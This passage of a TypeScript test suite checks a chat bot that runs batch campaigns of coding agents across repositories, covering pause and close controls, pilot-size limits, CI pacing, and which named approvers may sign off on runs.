  it('pauses: nothing more is begun until it is resumed; the same tap twice is no failure', async () => {
    const w = await started();
    const card = w.messages.findLast(({ text }) => text.startsWith('RUNNING'));
    const token = card?.buttons.flat()[0]?.token ?? '';
    expect(await w.taps('Pause')).toBe('Paused.');
    expect(await w.taps('', { data: token, messageId: card?.messageId ?? '' })).toBe('Paused.');
    for (const repo of await w.repos()) await w.opens(repo);
    await w.goesOn();
    expect(await w.repos()).toHaveLength(3);
    expect(w.card()).toContain('No further repositories are started.');
    await w.taps('Resume');
    await w.goesOn();
    expect(await w.repos()).toHaveLength(6);
  });

  it('closes after a second tap, and cancels with it what has no pull request yet', async () => {
    const w = await started();
    const [one = '', ...others] = await w.repos();
    await w.opens(one);
    await w.taps('Close');
    expect(w.card()).toContain('2 runs without a pull request can be cancelled with it');
    expect(w.buttons()).toEqual(['Close for good', 'Close, cancel 2', 'Back']);
    expect(await w.campaign()).toMatchObject({ state: 'running' });
    expect(await w.taps('Close, cancel 2')).toBe('Closed.');
    const runs = await w.runs();
    const stateOf = (repo: string) => runs.find(({ order }) => order.repo === repo)?.lifecycle.state;
    expect(others.map(stateOf)).toEqual(['FAILED_TERMINAL', 'FAILED_TERMINAL']);
    expect(stateOf(one)).toBe('CI_WAIT');
    expect(await w.campaign()).toMatchObject({ state: 'closed', by: { id: '7' } });
    await w.goesOn();
    expect(await w.repos()).toHaveLength(3);
  });

  it('tells once that it is finished, with the share that was merged', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it');
    await w.taps('Start 2');
    await w.goesOn();
    for (const { id } of await w.runs())
      await w.offer(id, { type: 'command.skip', by: { id: '7', name: 'Ana' }, reason: 'not wanted' });
    await w.goesOn();
    await w.goesOn();
    const [own, ...told] = w.messages.filter(({ text }) => text.startsWith('FINISHED'));
    expect(own?.silent).toBe(true);
    expect(told).toHaveLength(1);
    expect(told[0]?.text).toContain('Merged 0 of 2 (0 %)');
    expect(told[0]?.text).toContain('2 skipped');
  });

  it('two campaigns on one repository: the second one leaves it out', async () => {
    const w = await started();
    await w.orders('/batch acme/a acme/z Fix another thing');
    expect(w.card()).toContain('Left out: 1 with a run in progress: acme/a');
    expect(w.card()).toContain('1 of 2 repositories take part');
  });

  it('lists campaigns by their ids, and says of an unknown one that it is unknown', async () => {
    const w = await createCampaignWorld();
    expect(await w.says('/campaign')).toEqual(['There are no campaigns. /batch starts one.']);
    await w.orders('/batch acme/a Fix it');
    await w.orders('/batch acme/b Fix it');
    const [list = ''] = await w.says('/campaign');
    expect(list.split('\n')).toHaveLength(3);
    expect(await w.says('/campaign c-zzzzzz')).toEqual(['There is no campaign c-zzzzzz.']);
    const id = (await w.campaign())?.id ?? '';
    expect((await w.says(`/campaign ${id.toUpperCase()}`))[0]).toContain(id);
  });

  it('F5: of two campaigns that were planned before either began, the second one waits where the first is at work', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it');
    const first = w.card();
    await w.orders('/batch acme/a acme/c Fix another thing');
    const ids = (await w.ledger.query.campaigns()).map(({ id }) => id);
    const decide = (id: string | undefined) =>
      w.ledger.campaigns.decide(id ?? '', { decision: { kind: 'started' }, by: null, at: w.clock.now() });
    await decide(ids[1]);
    await w.goesOn();
    await decide(ids[0]);
    await w.goesOn();
    expect(first).toContain('2 of 2 repositories take part');
    const runsOf = async (id: string | undefined) =>
      (await w.ledger.query.campaignRuns(id ?? '')).map(({ order: { repo } }) => repo).sort();
    expect(await runsOf(ids[1])).toEqual(['acme/a', 'acme/b']);
    expect(await runsOf(ids[0])).toEqual(['acme/c']);
    await w.says(`/campaign ${ids[0] ?? ''}`);
    const [other] = await w.ledger.query
      .campaignRuns(ids[1] ?? '')
      .then((all) => all.filter((r) => r.order.repo === 'acme/a'));
    const waits = w.messages.at(-1)?.text ?? '';
    expect(waits).toContain(`Waiting for another run of ours there: acme/a (${other?.id})`);
    // What is said of numbers adds up: nothing is "all started" beside one that waits.
    expect(waits).toContain('1 of 2 repositories started');
    expect(waits).toContain('All steps have begun; 1 repository waits for its turn.');
    expect(waits).not.toContain('All repositories have been started');
    const by = { id: ANA, name: 'Ana' };
    await w.offer(other?.id ?? '', { type: 'command.cancel', by, reason: '' });
    await w.goesOn();
    expect(await runsOf(ids[0])).toEqual(['acme/a', 'acme/c']);
  });

  it('F5: where a run was left out, nothing is at work: the second campaign does not wait for it', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a Fix it');
    await w.orders('/batch acme/a Fix another thing');
    const [second, first] = (await w.ledger.query.campaigns()).map(({ id }) => id);
    const starts = async (id = ''): Promise<number> => {
      const at = w.clock.now();
      await w.ledger.campaigns.decide(id, { decision: { kind: 'started' }, by: null, at });
      await w.goesOn();
      return (await w.ledger.query.campaignRuns(id)).length;
    };
    expect(await starts(first)).toBe(1);
    const [run] = await w.ledger.query.campaignRuns(first ?? '');
    const { input } = toStepFailure('discover', 'repository_archived', 'read-only');
    await w.offer(run?.id ?? '', { type: 'command.discovery.start' }, input);
    expect(await starts(second)).toBe(1);
    await w.says(`/campaign ${first ?? ''}`);
    expect(w.messages.at(-1)?.text).toContain('0 of 1 repository started');
    expect(w.messages.at(-1)?.text).toContain('Not started: 1 left out.');
  });

  it('F5: a repository whose rules forbid it is left out with the reason, and stops nothing', async () => {
    const w = await started();
    const [one, ...others] = await w.repos();
    for (const repo of others) await w.opens(repo);
    const run = (await w.runs()).find(({ order }) => order.repo === one);
    if (!run) throw new Error('there is no run of it');
    await w.offer(run.id, { type: 'command.discovery.start' }, discovered({ banned: true })(run).input);
    expect((await w.run(run?.id ?? '')).lifecycle.state).toBe('NEEDS_HUMAN_REVIEW');
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'running', step: 1 });
    await w.says('/campaign');
    const card = w.messages.at(-1)?.text ?? '';
    expect(card).toContain(`Left out: 1 closed to changes by agents: ${one} ${run?.id}`);
    expect(card).not.toContain('Failed');
  });

  it('F5: of two campaigns that are started in the same moment, one is at work in a repository at a time', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it');
    await w.orders('/batch acme/a acme/b Fix another thing');
    const ids = (await w.ledger.query.campaigns()).map(({ id }) => id);
    const decision = { kind: 'started' } as const;
    await Promise.all(ids.map((id) => w.ledger.campaigns.decide(id, { decision, by: null, at: 1 })));
    await w.goesOn();
    const live = await w.ledger.query.runs({ live: true, limit: 10 });
    expect(live.map(({ order }) => order.repo).sort()).toEqual(['acme/a', 'acme/b']);
    expect(new Set(live.map(({ order }) => order.campaign)).size).toBe(1);
  });

  it('F5: keeps pace with the CI of each owner, and the card says whose it waits for', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b acme/c acme/d other/x Fix it');
    await w.taps('Start 5');
    await w.goesOn();
    const check = (status: 'queued' | 'running') =>
      ({
        type: 'forge.check.observed',
        sha: 'a'.repeat(40),
        check: { key: 'k', name: 'test', kind: 'check', app: '1', status, outcome: null, startedAt: 1 },
      }) as const;
    const open: Run[] = [];
    for (const order of [{ repo: 'acme/e' }, { repo: 'acme/f' }, { repo: 'acme/g' }])
      open.push(await w.openRun({ order }));
    for (const {
      id,
      change: { pushedHead: pushed },
    } of open)
      await w.offer(id, { ...check('queued'), sha: pushed?.sha ?? '' });
    w.passes(11 * MINUTE);
    const canaries = await w.repos();
    for (const repo of canaries) await w.opens(repo);
    await w.goesOn();
    await w.goesOn();
    const since = (await w.repos()).filter((repo) => !canaries.includes(repo));
    expect(since.filter((repo) => repo.startsWith('acme/'))).toEqual([]);
    expect(w.messages.map(({ text }) => text).find((text) => text.startsWith('RUNNING'))).toContain(
      'Waits for the CI of acme: 3 of ours queued',
    );
    // One of them gets its machine.
    const [first] = open;
    await w.offer(first?.id ?? '', { ...check('running'), sha: first?.change.pushedHead?.sha ?? '' });
    await w.goesOn();
    expect((await w.repos()).sort()).toEqual(['acme/a', 'acme/b', 'acme/c', 'acme/d', 'other/x']);
    expect(w.failed).toEqual([]);
  });

  const all = Array.from({ length: 14 }, (_, i) => `acme/r${i}`).join(', ');
  const atOnce = (canary: number, engine: string) =>
    `name: a\nrepositories: [${all}]\ngoal: Fix it\nengine: ${engine}\npace: { canary: ${canary} }`;

  it('F5: an agent may not skip the pilot, whatever the file says', async () => {
    const settings = CampaignSettings.parse({ scriptsMaySkipPilot: true });
    const w = await createCampaignWorld(undefined, { settings });
    await w.sends('a.yml', atOnce(14, 'codex'), '/batch');
    expect(w.messages.at(-1)?.text).toContain(
      'its first step would take 14 repositories, and at most 10 may go first',
    );
    await w.sends('a.yml', atOnce(5_000, 'codex,script'), '/batch');
    expect(w.messages.at(-1)?.text).toContain('at most 10 may go first');
    expect(await w.ledger.query.campaigns()).toEqual([]);
    await w.sends('a.yml', atOnce(10, 'codex'), '/batch');
    expect(w.card()).toContain('Starts with 10 repositories');
  });

  it('F5: a script may skip the pilot where the host allows it', async () => {
    const strict = await createCampaignWorld();
    await strict.sends('a.yml', atOnce(14, 'script'), '/batch');
    expect(strict.messages.at(-1)?.text).toContain('campaigns.scriptsMaySkipPilot');
    const settings = CampaignSettings.parse({ scriptsMaySkipPilot: true });
    const w = await createCampaignWorld(undefined, { settings });
    await w.sends('a.yml', atOnce(14, 'script'), '/batch');
    expect(w.card()).toContain('Starts with all 14 repositories at once');
  });

  const named = (ids: readonly string[]) =>
    `name: a\nrepositories: [acme/a, acme/b]\ngoal: Fix it\nengine: codex\napprovers: [${ids.join(', ')}]`;

  it('G3: names who alone may approve its runs, of those who may approve anyway', async () => {
    const w = await createCampaignWorld();
    await w.sends('a.yml', named(['7', VIC]), '/batch');
    expect(w.messages.at(-1)?.text).toContain(
      `${VIC}, whom it names as an approver, may approve nothing here`,
    );
    await w.sends('a.yml', named([ANA]), '/batch');
    expect(w.card()).toContain(`Only these may approve: ${ANA}`);
    await w.taps('Start 2');
    await w.goesOn();
    const run = await w.comes('acme/a');
    expect(run.order.approvers).toEqual([ANA]);
    const {
      gate: { approval },
    } = run;
    const by = { id: '99', name: 'Ben' };
    const sign = {
      type: 'command.pr.approve',
      by,
      approvalId: approval?.id ?? '',
      digest: approval?.digest ?? '',
    } as const;
    await expect(w.offer(run.id, sign)).rejects.toThrow('not_named');
    expect((await w.run(run.id)).gate.approval?.signatures).toEqual([]);
  });

  it('G3, L5: replay holds each signature against the approvers that the campaign names', async () => {
    const w = await createCampaignWorld();
    await w.sends('a.yml', named([ANA]), '/batch');
    await w.taps('Start 2');
    await w.goesOn();
    await w.opens('acme/a');
    const run = (await w.runs()).find(({ order }) => order.repo === 'acme/a');
    if (!run) throw new Error('no run');
    const { events } = await w.ledger.query.audit.log(run.id);
    expect(await namedIn(w.ledger.query, run, events)).toEqual([]);
    const other: Pick<typeof w.ledger.query, 'campaign'> = {
      campaign: async (id) => {
        const known = await w.ledger.query.campaign(id);
        return (
          known && { ...known, order: { ...known.order, run: { ...known.order.run, approvers: ['99'] } } }
        );
      },
    };
    const said = await namedIn(other, run, events);
    expect(said[0]).toContain('names other approvers than its campaign');
    expect(said[1]).toContain(`was signed by ${ANA}, whom campaign`);
  });

  it('G3: an approver who leaves in the middle is told of; the others go on', async () => {
    const w = await createCampaignWorld();
    const ben = (role: 'approver' | 'viewer') =>
      w.ledger.setUser({ id: '99', name: 'Ben', role }, { id: ANA, name: 'Ana' });
    await ben('approver');
    await w.sends('a.yml', named(['99', ANA]), '/batch');
    await w.taps('Start 2');
    await w.goesOn();
    await ben('viewer');
    await w.goesOn();
    await w.goesOn();
    const told = () => w.messages.filter(({ text }) => text.includes('99 may approve nothing any more'));
    expect(told().map(({ text }) => text)).toEqual([
      expect.stringContaining('goes on with the one approver'),
    ]);
    expect(await w.campaign()).toMatchObject({ state: 'running' });
  });

  it('G3: with nobody left who may approve, it stops and says what to do; Resume goes on when one is back', async () => {
    const w = await createCampaignWorld();
    const ben = (role: 'approver' | 'viewer') =>
      w.ledger.setUser({ id: '99', name: 'Ben', role }, { id: ANA, name: 'Ana' });
    await ben('approver');
    await w.sends('a.yml', named(['99']), '/batch');
    await w.taps('Start 2');
    await w.goesOn();
    expect((await w.runs())[0]?.order.decider).toBe('99');
    await ben('viewer');
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({
      state: 'stopped',
      reason: { kind: 'approvers', count: 0, of: 1 },
    });
    expect(w.card()).toContain('of the approvers that it names, 0 may still approve, and one is needed');
    await w.taps('Resume');
    w.passes(1_000);
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'stopped' });
    await ben('approver');
    await w.taps('Resume');
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'running' });
  });

  it('a run that nobody ordered by a campaign is none of its business', async () => {
    const w = await started();
    await w.readyRun({ order: anOrder({ repo: 'acme/f' }) });
    expect(await w.repos()).toHaveLength(3);
  });
});
